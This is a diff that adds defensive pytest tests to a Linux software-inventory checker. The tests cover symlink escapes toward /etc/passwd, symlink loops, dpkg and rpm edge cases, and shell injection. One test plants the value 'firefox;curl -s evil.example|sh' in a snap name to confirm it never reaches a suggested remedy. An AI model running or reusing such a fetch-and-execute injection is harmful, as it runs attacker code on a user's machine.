@@ -195,3 +195,106 @@ def test_ubuntu_transitional_deb_is_unknown_with_the_reason(tmp_path: Path):
     (chromium,) = inventory.software
     assert chromium.version is None
     assert chromium.problem == "chromium-browser 2:1snap1-0ubuntu2 is a transitional package for the snap"
+
+
+def _machine(tmp_path: Path) -> Path:
+    root = tmp_path / "root"
+    shutil.copytree(DEBIAN, root, symlinks=True)
+    return root
+
+
+def test_a_symlink_chain_cannot_reach_the_hosts_files(tmp_path: Path):
+    root = _machine(tmp_path)
+    os_release = root / "etc/os-release"
+    os_release.unlink()
+    # 45 links, the last pointing at an absolute path that exists on the host.
+    for index in range(45):
+        target = f"/etc/l{index + 1}" if index < 44 else "/etc/passwd"
+        (root / f"etc/l{index}").symlink_to(target)
+    os_release.symlink_to("/etc/l0")
+    inventory = inspect_machine("linux", str(root), env={})
+    assert inventory.os.id == "debian"  # from /usr/lib/os-release; never the host's /etc/passwd
+    assert "/etc/os-release: too many levels of symbolic links, not read" in inventory.warnings
+
+
+def test_folder_links_back_to_their_parent_end(tmp_path: Path):
+    root = _machine(tmp_path)
+    applications = root / "usr/share/applications"
+    (applications / "self").symlink_to(".")
+    (applications / "a").symlink_to(".")
+    (applications / "b").symlink_to("..")
+    inventory = inspect_machine("linux", str(root), env={})
+    assert {item.product for item in inventory.software} == PRODUCTS_DEBIAN
+
+
+def test_a_multiarch_leftover_does_not_hide_the_installed_package(tmp_path: Path):
+    root = _machine(tmp_path)
+    status = root / "var/lib/dpkg/status"
+    text = status.read_text(encoding="utf-8")
+    leftover = "Package: firefox-esr\nStatus: deinstall ok config-files\nPriority: optional\nArchitecture: i386\n\n"
+    status.write_text(text.replace("Package: firefox-esr\n", leftover + "Package: firefox-esr\n", 1), encoding="utf-8")
+    inventory = inspect_machine("linux", str(root), env={})
+    firefox = next(item for item in inventory.software if item.product == "firefox")
+    assert (str(firefox.version), firefox.source) == ("128.3.0esr", "dpkg")
+
+
+def test_shell_text_in_a_snap_name_never_reaches_a_remedy(tmp_path: Path, capsys):
+    root = _machine(tmp_path)
+    evil = "firefox;curl -s evil.example|sh"
+    (root / "snap" / evil / "current/meta").mkdir(parents=True)
+    (root / "snap" / evil / "current/meta/snap.yaml").write_text("name: firefox\nversion: 100.0-1\n")
+    user_apps = root / "home/alice/.local/share/applications"
+    user_apps.mkdir(parents=True, exist_ok=True)
+    (user_apps / "evil.desktop").write_text(
+        f"[Desktop Entry]\nType=Application\nName=Firefox\nExec=firefox %u\nX-SnapInstanceName={evil}\n"
+        "Categories=WebBrowser;\n"
+    )
+    status = main(["check", "--root", str(root), "--platform", "linux", "--format", "json"], env={})
+    report = json.loads(capsys.readouterr().out)
+    assert status == 1
+    assert not any("curl" in (finding["remedy"] or "") for finding in report["findings"])
+    assert not any(item["source"] == "snap" for item in report["software"])
+
+
+def test_the_distributions_folder_is_recognised_with_a_trailing_slash(tmp_path: Path, monkeypatch):
+    from clientcheck.inspect.fsroot import Root
+
+    root = _machine(tmp_path)
+    (root / "usr/share/applications/org.example.Unrelated.desktop").write_text(
+        "[Desktop Entry]\nType=Application\nName=Unrelated\nExec=unrelated\n"
+    )
+    reads: list[str] = []
+    real_read = Root.read_bytes
+
+    def counting(self, path, *args, **kwargs):
+        reads.append(path)
+        return real_read(self, path, *args, **kwargs)
+
+    monkeypatch.setattr(Root, "read_bytes", counting)
+    from clientcheck.inspect.linux import inspect_linux
+
+    inspect_linux(str(root), {"XDG_DATA_DIRS": "/usr/local/share/:/usr/share/"}, live=False)
+    assert not [path for path in reads if path.endswith("org.example.Unrelated.desktop")]
+
+
+def test_a_damaged_rpm_header_makes_its_apps_unknown(tmp_path: Path):
+    import sqlite3
+    import struct
+
+    root = tmp_path / "root"
+    shutil.copytree(LINUX_FIXTURES / "fedora-41-workstation" / "root", root, symlinks=True)
+    database = root / "usr/lib/sysimage/rpm/rpmdb.sqlite"
+    connection = sqlite3.connect(database)
+    with connection:
+        for hnum, blob in connection.execute("SELECT hnum, blob FROM Packages").fetchall():
+            data = bytearray(blob)
+            count = struct.unpack_from(">i", data, 0)[0]
+            for index in range(count):
+                tag = struct.unpack_from(">i", data, 8 + 16 * index)[0]
+                if tag == 1116:  # DIRINDEXES: give it an impossible negative count
+                    struct.pack_into(">i", data, 8 + 16 * index + 12, -5)
+            connection.execute("UPDATE Packages SET blob = ? WHERE hnum = ?", (bytes(data), hnum))
+    connection.close()  # the last close checkpoints rpm's WAL into the database file, as rpm itself does
+    inventory = inspect_machine("linux", str(root), env={})
+    unknown = [item for item in inventory.software if item.version is None]
+    assert unknown and all("damaged package header" in (item.problem or "") for item in unknown)
